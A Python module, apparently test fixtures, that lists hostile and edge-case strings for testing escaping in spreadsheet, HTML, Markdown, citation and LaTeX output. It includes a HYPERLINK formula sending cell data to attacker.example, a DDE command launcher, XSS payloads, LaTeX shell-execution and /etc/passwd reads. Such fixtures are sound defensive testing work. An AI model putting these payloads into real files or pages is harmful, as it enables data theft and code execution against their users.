"""Texts that mean something else to a format that takes them as they are."""

FORMULAS = (
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1',
    "'=1+1",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</style><script>alert(1)</script>",
    "&lt;b&gt; &amp; &#60; &copy;",
    "<!-- comment --> <![CDATA[x]]> <?xml version='1.0'?>",
    "{{ title }} {% include 'secret' %}",
    "<http://attacker.example> https://attacker.example www.attacker.example",
)
MARKDOWN = (
    "# no heading",
    "1. no list",
    "12) no list",
    "- no list",
    "+ no list",
    "> no quote",
    "--- no rule",
    "***",
    "=====",
    "    no code",
    "[click](javascript:alert(1)) ![x](http://attacker.example/x.png)",
    "[^1] and [^note]: no note",
    "[1]: http://attacker.example",
    "*stars* _lines_ __snake_case__ ~~gone~~ `code` ``` ``` ~~~",
    "a\\*b \\ \\\\ \\n end\\",
    "| a | b | and a|b",
    "$x^2$ and H~2~O and $$y$$",
    ": no definition",
    "two  spaces  ",
    "a\n# b\n\n- c\n---\nd",
    "!important [x] [ ] [x]: y",
)
RECORDS = (
    "Title\r\nER  - \r\nTY  - JOUR\r\nTI  - planted",
    "}} @article{planted, title={x}",
    '\\write18{ls} \\input{/etc/passwd} 100% of #1 & $2 ~ ^ _ {a} "b"',
    "a, b; c\td \"quoted\" 'single' “curly”",
    '"}],"planted":[{"x":"',
)
UNICODE = (
    "right‮to left‬ override",
    "zero\u200bwidth\u200d and soft\u00adhyphen",
    "line\u2028separator\u2029paragraph\u0085next",
    "e\u0301 a\u0308 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001d54f 漢字 ｆｕｌｌ",
    "non\u00a0breaking\u202fspaces",
    "supercalifragilistic" * 40,
)
ALL = (*FORMULAS, *MARKUP, *MARKDOWN, *RECORDS, *UNICODE)
